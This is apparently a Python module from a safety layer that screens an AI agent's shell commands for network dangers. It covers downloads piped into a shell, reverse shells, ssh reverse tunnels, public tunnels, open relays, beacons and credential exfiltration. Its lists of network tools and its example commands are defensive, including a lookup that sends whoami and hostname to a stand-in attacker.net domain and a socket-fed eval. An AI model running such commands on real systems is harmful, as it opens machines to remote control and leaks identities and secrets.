"""Rules for the network: tools that contact other hosts, and code fetched from a download.

Downloaders are remembered in the :class:`~workset.safety.rules.base.Context` (what files this
line fetched) so that running them later in the same line is denied like a download piped
into a shell.
"""

from __future__ import annotations

import re
from collections.abc import Iterator, Sequence

from workset.safety.rules import app_platforms, attack_targets, loopback, net_reads
from workset.safety.rules.admin_reads import local_mail
from workset.safety.rules.base import Cmd, Context, Finding, Handler, Nested, Result
from workset.safety.rules.loopback import LOCAL_HOST
from workset.safety.rules.remote_reads import remote_pull, remote_read
from workset.safety.rules.secrets import secret_variables
from workset.safety.rules.wrappers import unwrap

DOWNLOADERS = frozenset({"curl", "wget", "fetch", "aria2c", "http", "https", "lwp-request", "xh"})
# What feeds a shell from another host when piped into it.
REMOTE_FEEDS = DOWNLOADERS | {"nc", "ncat", "netcat", "telnet", "socat", "openssl", "ssh", "gh",
                              "glab", "dig", "host", "nslookup", "drill", "kdig"}  # fmt: skip
NETWORK = frozenset({"curl", "wget", "ssh", "scp", "sftp", "nc", "ncat", "netcat", "telnet", "ftp",
                     "socat", "aria2c", "fetch", "http", "https", "xh", "rclone", "ssh-copy-id",
                     "mosh", "rsh", "tftp", "smbclient", "dig", "nslookup", "host", "ping",
                     "traceroute", "tracepath", "mtr", "whois", "nmap", "openssl", "mail",
                     "sendmail", "mutt", "swaks",
                     # peer-to-peer file senders: what they are given leaves the machine
                     "croc", "wormhole", "ffsend", "gh", "glab", "hub"})  # fmt: skip
# gh/glab subcommands whose operands are local files sent to the forge.
_FORGE_UPLOADS = (("gist", "create"), ("release", "upload"), ("release", "create"),
                  ("snippet", "create"), ("gist", "edit"))  # fmt: skip
_UPLOAD_FLAGS = ("-d", "--data", "--data-binary", "--data-raw", "--data-urlencode", "-F",
                 "--form", "-T", "--upload-file", "--post-file", "--post-data", "--body-file",
                 "--body-data", "--json")  # fmt: skip
_SOCKET = re.compile(r"^/dev/(tcp|udp)/")
_HOST_ARG = re.compile(r"^([\w.-]+@)?[\w.-]+:")


def download_exec(what: str) -> Finding:
    return Finding(
        "download-exec",
        "deny",
        f"{what}: code fetched from the network runs unseen; download the file into the "
        "workspace, read it, then run it as a separate, reviewed step",
    )


def downloads(cmds: Sequence[Cmd]) -> bool:
    """Some command in ``cmds`` fetches from another host (or a socket redirect does)."""
    return any(
        unwrap(c, []).name in REMOTE_FEEDS
        or any(_SOCKET.match(t) for op, t in c.redirects if op in ("<", "<>", "<&"))
        for c in cmds
    )


def remote_socket(target: str) -> bool:
    """``/dev/tcp/HOST/PORT`` (or udp) of another host: a connection bash opens itself."""
    host = target.split("/")[3] if _SOCKET.match(target) and target.count("/") >= 3 else ""
    return bool(_SOCKET.match(target)) and not LOCAL_HOST.match(host)


def local_only(cmd: Cmd) -> bool:
    """curl/wget/http talking only to this machine (a health check), sending nothing or only
    what :func:`~workset.safety.rules.loopback.harmless_payload` shows harmless."""
    if cmd.name in ("nc", "ncat", "netcat") and any(re.fullmatch(r"-[a-zA-Z]*z[a-zA-Z]*", a)
                                                    for a in cmd.args()):  # fmt: skip
        args = cmd.args()
        hosts = [a for i, a in enumerate(args) if not a.startswith("-")
                 and (i == 0 or args[i - 1] not in _NC_VALUED)][:1]  # fmt: skip
        return bool(hosts) and LOCAL_HOST.match(hosts[0]) is not None  # nc -z: a port check
    if cmd.name == "socat":
        return loopback.socat_relay(cmd)
    if net_reads.offline(cmd):
        return True  # nmap --script-help NAME: nmap describes itself
    if cmd.name in attack_targets.AIMED:  # nmap 127.0.0.1: a scan of this machine
        return attack_targets.at_loopback(cmd)
    if cmd.name in ("nc", "ncat", "netcat", "grpcurl"):
        return loopback.local_read(cmd)
    if cmd.name == "rclone":
        return not any(":" in a for a in cmd.args() if not a.startswith("-"))  # remote:path
    if cmd.name in ("mail", "mailx", "s-nail"):
        return local_mail(cmd)  # echo 'backup ok' | mail -s done root@localhost
    if cmd.name == "ssh":  # ssh -G prints the settings it would use and connects nowhere
        return any(re.fullmatch(r"-[a-zA-Z]*G[a-zA-Z]*", a) for a in _ssh_options(cmd.args()))
    named = loopback.urls(cmd)
    local = [u for u in named if loopback.is_local(u) or _FILE_URL.match(u)
             or loopback.mapped_to_loopback(cmd, u)]  # fmt: skip
    if not named or local != named or loopback.mapped_away(cmd):
        return False
    if cmd.name in _HTTP_CLIENTS:
        return loopback.harmless_payload(cmd, sends=uploads(cmd))
    return not uploads(cmd)


_HTTP_CLIENTS = frozenset({"curl", "wget", "http", "https", "xh"})
_NC_VALUED = frozenset({"-w", "-p", "-s", "-i", "-q", "-W", "-x", "-X", "-I", "-O", "-T"})


# A URL of a file on this machine (``file:///…``, ``file://localhost/…``): curl only reads it.
_FILE_URL = re.compile(r"^file://(localhost)?(/|\$PWD/|\$\{PWD\}/)", re.IGNORECASE)


def uploads(cmd: Cmd) -> bool:
    """The command sends local data to another host (a form, a POST body, an upload)."""
    args = cmd.args()
    name = cmd.name
    if name in ("curl", "wget", "http", "https", "xh"):
        sends = any(a in _UPLOAD_FLAGS or a.startswith(tuple(f + "=" for f in _UPLOAD_FLAGS))
                    for a in args)  # fmt: skip
        if name in ("http", "https", "xh"):
            sends = sends or any(re.match(r"^[\w-]+(=|:=|@)", a) for a in args[1:])
        return sends or (name == "curl" and any(re.match(r"^-[a-zA-Z]*[dFT]$", a) for a in args))
    if name in ("scp", "rsync", "rclone"):
        operands = [a for a in args if not a.startswith("-")]
        return bool(operands) and _HOST_ARG.match(operands[-1]) is not None
    if name in ("gh", "glab", "hub"):
        words = [a for a in args if not a.startswith("-")]
        if tuple(words[:2]) in _FORGE_UPLOADS and len(words) > 2:
            return True
        return any(a in ("--body-file", "-F", "--field", "--input", "--raw-field") or
                   a.startswith(("--body-file=", "--input=")) for a in args)  # fmt: skip
    if name in ("nc", "ncat", "netcat", "socat", "telnet"):
        return cmd.piped or any(op == "<" for op, _ in cmd.redirects)
    return any(_SOCKET.match(t) for op, t in cmd.redirects if op in (">", ">>", ">&", "&>", "<>"))


# A coprocess's descriptors (``coproc nc …`` then ``<&"${COPROC[0]}"``, or a named one).
_COPROCESS_FD = re.compile(r"\$\{?\w*COPROC\w*(\[\d\])?\}?|\$\{\w+\[[01]\]\}")


def reverse_shell(cmd: Cmd, ctx: Context) -> Finding | None:
    """A shell whose input and output are a network connection: someone else drives it.

    A descriptor above 2 opened on ``/dev/tcp`` (``exec 3<>…``) is only a connection; it is
    a shell's once a shell, ``eval`` or a command name read at run time uses it, or once the
    line has read from it and then runs text it cannot know (``read c <&3; eval "$c"``)."""
    name = cmd.name
    args = cmd.args()
    extra = cmd.extra_fd + (False,) * len(cmd.redirects)
    sockets = [t for (_, t), side in zip(cmd.redirects, extra, strict=False)
               if _SOCKET.match(t) and not side]  # fmt: skip
    shells = {"sh", "bash", "zsh", "dash", "ksh", "ash", "fish", "exec", "eval"}
    runs_text = cmd.is_dynamic(0) or (name == "eval" and any(cmd.dynamic[1:]))
    hit = ""
    coprocess = [t for op, t in cmd.redirects if _COPROCESS_FD.search(t) and op.startswith("<")]
    if sockets and (name in shells or "-i" in args or name.isdigit()):
        hit = f"{name} with its input/output on {sockets[0]}"  # exec 0</dev/tcp/… is "0"
    elif coprocess and name in shells - {"exec", "eval"}:  # coproc nc …; bash -i <&"${COPROC[0]}"
        hit = f"{name} takes its input from a coprocess ({coprocess[0]}), which drives it"
    elif (sockets or ctx.socket_read) and runs_text:
        hit = f"{cmd.argv[0]} runs text read from a network connection"
    elif name in ("nc", "ncat", "netcat") and any(
        a in ("-e", "-c", "--exec", "--sh-exec", "--lua-exec") for a in args
    ):
        hit = f"{name} -e hands a shell to the other end"
    elif name == "socat" and any(re.search(r"(exec|system):", a, re.I) for a in args):
        hit = "socat connects a program to the network"
    elif (name in ("nc", "ncat", "netcat", "telnet", "socat") or args[:1] == ("s_client",)) and any(
        unwrap(c, []).name in shells for c in cmd.upstream
    ):
        hit = f"a shell's output piped into {name}"
    if any(_SOCKET.match(t) for op, t in cmd.redirects if op in ("<", "<>", ">>")):
        ctx.socket_read = True  # ">>" is how "<>" is parsed
    if not hit:
        return None
    return Finding(
        "reverse-shell",
        "deny",
        f"{hit}: that gives a remote machine a shell here (a reverse shell); an agent never "
        "does this — use the tools you were given",
    )


def download_targets(cmd: Cmd, ctx: Context) -> set[str]:
    """Files a curl/wget call writes (to recognise ``curl -o x.sh …; sh x.sh``)."""
    out: set[str] = set()
    args = cmd.args()
    for index, word in enumerate(args):
        value = args[index + 1] if index + 1 < len(args) else ""
        if word in ("-o", "--output", "-O", "--output-document") or re.fullmatch(
            r"-[a-zA-Z]+o" if cmd.name != "wget" else r"-[a-zA-Z]+O", word
        ):
            if not (cmd.name == "curl" and word == "-O"):
                out.add(value)
        elif word.startswith(("--output=", "--output-document=")):
            out.add(word.split("=", 1)[1])
    remote_name = any(re.fullmatch(r"-[a-zA-Z]*O[a-zA-Z]*|--remote-name(-all)?", a) for a in args)
    if (cmd.name == "wget" and not out) or (cmd.name == "curl" and remote_name):  # curl -fsSLO
        urls = [a for a in args if "://" in a]
        out.update(u.rstrip("/").rsplit("/", 1)[-1] for u in urls)
    out.update(t for op, t in cmd.redirects if op in (">", ">>"))
    return {w for w in out if w and w != "-"} | {ctx.resolve(w) for w in out if w}


def fetch_and_run(cmd: Cmd) -> Iterator[Finding]:
    """Project tools that fetch code from the network and run it in one step.

    ``deno run https://…`` and ``uv run https://…`` run a script straight from a URL (denied
    like a download piped into a shell); ``go run mod@version``, ``npm exec``/``npm x`` and
    ``uv run --with pkg`` fetch a package and run it (asked), and so does a model tool's
    ``--trust-remote-code`` (the model repository's own code).
    """
    args = cmd.args()
    words = [a for a in args if not a.startswith("-")]
    name = cmd.name
    if name in ("deno", "uv", "bun") and any(w.startswith(("http://", "https://")) for w in words):
        yield download_exec(f"{name} runs a script straight from a URL")
    elif name == "go" and words[:1] == ["run"] and any("@" in w for w in words[1:]):
        yield _fetch_run(f"go run {next(w for w in words[1:] if '@' in w)}")
    elif runner_start(cmd) is not None:
        _, fetched = package_runner(cmd)
        if fetched is not None:
            yield fetched
    elif (
        name == "uv"
        and words[:1] == ["run"]
        and any(
            a in ("--with", "--with-requirements", "--with-editable") or a.startswith("--with")
            for a in args
        )
    ):
        yield _fetch_run("uv run --with")
    if any(a.split("=", 1)[0] in _TRUST_REMOTE_CODE for a in args):
        yield remote_model_code(f"{name} --trust-remote-code")


# The option of model tools (vllm, lm_eval, text-generation-launcher…) that runs the Python
# code a model repository ships, as its ``trust_remote_code=True`` does in transformers.
_TRUST_REMOTE_CODE = frozenset({"--trust-remote-code", "--trust_remote_code"})


def remote_model_code(what: str) -> Finding:
    """``trust_remote_code``: a model repository's own Python code runs here."""
    return Finding(
        "fetch-and-run",
        "ask",
        f"{what} runs the Python code that the model's repository ships, fetched from the hub "
        "with the user's rights; a human must confirm the repository, or load the model "
        "without it",
    )


# Options of a package runner that fetch a package by name, or only use what is installed.
_RUNNER_FETCH = frozenset({"-y", "--yes", "-p", "--package", "-c", "--call",
                           "--shell-auto-fallback"})  # fmt: skip
_RUNNER_LOCAL = frozenset({"--no-install", "--no", "--offline", "--prefer-offline", "-q",
                           "--quiet"})  # fmt: skip


def runner_start(cmd: Cmd) -> int | None:
    """Where the arguments of a package runner begin (``npx``, ``bunx``, ``npm exec``,
    ``npm x``, ``pnpm exec``/``dlx``, ``yarn dlx``); None for any other command."""
    args = cmd.args()
    if cmd.name in ("npx", "bunx"):
        return 1
    verb = args[0] if args else ""
    if cmd.name in ("npm", "pnpm") and verb in ("exec", "x", "dlx"):
        return 2
    return 2 if cmd.name == "yarn" and verb == "dlx" else None


def package_runner(cmd: Cmd) -> tuple[Cmd | None, Finding | None]:
    """A package runner's call: the project tool it runs from the project's own
    ``node_modules`` (``npx tsc --noEmit``, ``npx --no-install eslint .``), or why it asks
    (a package fetched by name from the registry and run: ``npx -y cowsay``, ``pnpm dlx x``,
    a version ``x@latest``, a binary the project does not usually declare)."""
    start = runner_start(cmd)
    assert start is not None
    words = list(cmd.argv[start:])
    local = False
    index = start
    while words and words[0].startswith("-"):
        flag = words.pop(0)
        index += 1
        if flag in _RUNNER_FETCH or flag.startswith(("--package=", "-p=")):
            return None, _fetch_run(f"{cmd.name} {flag}")
        local = local or flag in _RUNNER_LOCAL
    dlx = cmd.name in ("pnpm", "yarn") and cmd.args()[:1] == ("dlx",)
    tool = words[0] if words else ""
    pinned = "@" in tool.lstrip("@") or "/" in tool or ":" in tool
    runner = " ".join(cmd.argv[: min(start, 2)])
    if not tool or dlx or pinned or any(cmd.dynamic[: index + 1]):
        return None, _fetch_run(f"{runner} {tool}".strip())
    if local or tool in RUNNER_TOOLS:
        return cmd.shifted(index), None
    return None, _fetch_run(f"{runner} {tool}")


# Binaries of the development tools a project declares and a runner finds in node_modules.
RUNNER_TOOLS = frozenset({"tsc", "eslint", "prettier", "jest", "vitest", "mocha", "webpack",
                          "vite", "rollup", "esbuild", "tsx", "ts-node", "playwright",
                          "cypress", "stylelint", "biome", "nodemon", "lerna", "nx", "turbo",
                          "tailwindcss", "postcss", "babel", "next", "nuxt", "astro",
                          "svelte-check", "vue-tsc", "ava", "c8", "nyc", "husky",
                          "lint-staged", "markdownlint", "depcheck", "knip", "tsup",
                          "concurrently", "rimraf", "cross-env", "prisma", "drizzle-kit",
                          "storybook", "changeset", "semantic-release", "typedoc",
                          "ng", "gatsby", "remix", "wrangler", "serve", "knex", "sequelize",
                          "sequelize-cli", "typeorm", "npm-run-all", "run-p", "run-s",
                          "react-scripts", "vue-cli-service", "ember", "tsc-watch", "sass",
                          "madge", "license-checker", "size-limit", "commitlint",
                          "docusaurus", "svgo"})  # fmt: skip
RUNNER_TOOLS |= app_platforms.RUNNER_TOOLS  # expo, convex, supabase…: rules.app_platforms


def _fetch_run(what: str) -> Finding:
    return Finding(
        "fetch-and-run",
        "ask",
        f"{what} fetches a package from the network and runs it; a human must confirm, or "
        "declare it as a dependency of the project",
    )


def _remote_copy(cmd: Cmd, ctx: Context) -> Iterator[Result]:
    if remote_read(cmd) or remote_pull(cmd, ctx):
        return  # rsync -n lists what it would copy; a pull only fills the workspace
    if any(_HOST_ARG.match(a) for a in cmd.args() if not a.startswith("-")):
        yield Finding(
            "network",
            "ask",
            f"{cmd.name} copies to or from another host; confirm the host and the paths",
        )


_SSH_VALUES = frozenset("BbcDEeFIiJLlmOopQRSWw")


def _ssh_options(words: Sequence[str], *, autossh: bool = False) -> list[str]:
    """ssh's options with their values: they end at the host; the rest runs there."""
    options: list[str] = []
    args = list(words)
    while args and args[0].startswith("-"):
        word = args.pop(0)
        options.append(word)
        letters = re.match(r"-[a-zA-Z]*", word)
        values = _SSH_VALUES | {"M"} if autossh else _SSH_VALUES
        if letters and word == letters.group() and word[-1:] in values and args:
            options.append(args.pop(0))
    return options


def _ssh(cmd: Cmd, ctx: Context) -> Iterator[Result]:
    """ssh -R opens a port on the other host that leads back into this machine; a command
    given after the host runs there and is judged as if it ran here (``ssh db-1 'sudo rm -rf
    /var/lib/postgresql/*'`` destroys as much there)."""
    options = _ssh_options(cmd.args(), autossh=cmd.name == "autossh")
    rest = cmd.args()[len(options) :]
    start = len(options) + 2  # argv index of the first word after the host
    if len(rest) > 1 and not any(cmd.is_dynamic(i) for i in range(start, len(cmd.argv))):
        yield Nested(" ".join(rest[1:]))
    remote = any(re.fullmatch(r"-[a-zA-Z]*R.*", a) for a in options) or any(
        a.lower().replace(" ", "").startswith("remoteforward") for a in options
    )
    if remote:
        yield Finding(
            "reverse-tunnel",
            "deny",
            "ssh -R opens a port on the remote host that leads back into this machine (a "
            "reverse tunnel): whoever reaches that host gets in here; forward a local port "
            "with -L instead, or ask the user to set up the tunnel",
        )


# Commands whose output tells who and where this machine is: sent to a host, they are
# reconnaissance (``nslookup "$(whoami).$(hostname).x.attacker.net"``).
# (``uname -m`` is not among them: download addresses name the platform.)
_IDENTITY = frozenset({"whoami", "hostname", "id", "logname", "users", "groups", "ifconfig",
                       "ip", "env", "printenv", "hostid", "history", "fc"})  # fmt: skip
_IDENTITY_VARIABLES = re.compile(r"\$\{?(USER|LOGNAME|USERNAME|HOSTNAME|HOST)\b\}?")
_REQUEST_SENDERS = frozenset({"curl", "wget", "http", "https", "xh", "nslookup", "dig", "host",
                              "drill", "ping", "nc", "ncat", "netcat", "telnet"})  # fmt: skip
# Options whose value is a credential used to log in, not data sent away.
_CREDENTIAL_OPTIONS = frozenset({"-H", "--header", "-u", "--user", "--oauth2-bearer",
                                 "--proxy-user", "-A", "--user-agent", "-b", "--cookie",
                                 "--http-user", "--http-password", "--password"})  # fmt: skip


def leaks(cmd: Cmd, ctx: Context) -> Iterator[Result]:
    """A request to another host that carries this machine's identity or a credential
    variable in its address or body (``curl "https://x/?t=$API_TOKEN"``); credentials in a
    header or login option (``-H "Authorization: Bearer $TOKEN"``) are how they are used."""
    if local_only(cmd):
        return
    args = cmd.args()
    for index, word in enumerate(args, start=1):
        option = args[index - 2] if index > 1 else ""
        if (
            option in _CREDENTIAL_OPTIONS
            or word.split("=", 1)[0] in _CREDENTIAL_OPTIONS
            or (cmd.name == "curl" and re.fullmatch(r"-[a-zA-Z#]+[HuAb]", option))
        ):
            continue  # curl -sH "Authorization: …": the same header, flags clustered before it
        alone = re.fullmatch(r"\$\([^()]*\)", word.strip()) is not None  # ping $(hostname)
        told = [c.name for c in cmd.inner_of(index) if c.name in _IDENTITY and not alone]
        secret = secret_variables(word)
        found = _IDENTITY_VARIABLES.search(word) if cmd.is_dynamic(index) else None
        named = [found.group(0)] if found else []
        if told or secret or named:
            what = f"$({told[0]})" if told else (secret + named)[0]
            yield Finding(
                "exfiltration",
                "deny",
                f"{cmd.name} sends {what} to another host inside the request itself, which "
                "tells it who this machine is or hands it a credential; never send those "
                "anywhere — ask the user if it is truly needed",
            )
            return


def _tunnel(cmd: Cmd, ctx: Context) -> Iterator[Result]:
    """``ngrok http 8000``, ``cloudflared tunnel --url …``, ``lt --port``, ``bore local``,
    ``tailscale funnel``: a public address that leads into this machine."""
    words = [a for a in cmd.args() if not a.startswith("-")]
    opens = cmd.name in ("ngrok", "lt", "localtunnel") or (
        words[:1] in (["tunnel"], ["local"], ["funnel"], ["access"])
    )
    if opens and not {"--help", "-h", "version", "--version"} & set(cmd.args()):
        # A web app's port behind the tunnel's own login (a demo, a webhook) is the user's
        # call; with no login, or a raw TCP port, whoever finds the address gets in.
        guarded = words[:1] == ["http"] and any(a.split("=")[0] in _TUNNEL_LOGINS
                                                for a in cmd.args())  # fmt: skip
        instead = "a human must confirm who may log in" if guarded else _TUNNEL_INSTEAD
        yield Finding(
            "reverse-tunnel",
            "ask" if guarded else "deny",
            f"{cmd.name} {' '.join(words[:1])} publishes a port of this machine on the "
            f"internet: whoever finds the address reaches what listens here; {instead}",
        )


_TUNNEL_INSTEAD = "serve on 127.0.0.1 only, or ask the user to set up the tunnel"
# ngrok's options that put a login or an address filter in front of the tunnel.
_TUNNEL_LOGINS = frozenset({"--basic-auth", "--oauth", "--oidc", "--traffic-policy-file",
                            "--cidr-allow", "--auth", "-auth"})  # fmt: skip


def _open_relay(cmd: Cmd, ctx: Context) -> Iterator[Result]:
    host = loopback.open_relay(cmd)
    if host is not None:
        yield Finding(
            "open-relay",
            "deny",
            f"socat listens on every interface and passes what arrives to {host}, so anyone "
            "who reaches this machine reaches that host past its firewall; bind the listener "
            "to 127.0.0.1 (TCP-LISTEN:PORT,bind=127.0.0.1) or use ssh -L",
        )


HANDLERS: dict[str, Handler] = {
    "socat": _open_relay,
    **{n: _tunnel for n in ("ngrok", "cloudflared", "lt", "localtunnel", "bore", "tailscale")},
    "rsync": _remote_copy,
    "ssh": _ssh,
    "autossh": _ssh,
    **{n: leaks for n in _REQUEST_SENDERS},
}


def beacon() -> Finding:
    return Finding(
        "beacon",
        "deny",
        "a loop without end contacts another host again and again: that is how an implant "
        "checks in for orders (a beacon), and it never finishes; run the request once, or "
        "bound the loop (for i in 1 2 3, or until it succeeds)",
    )
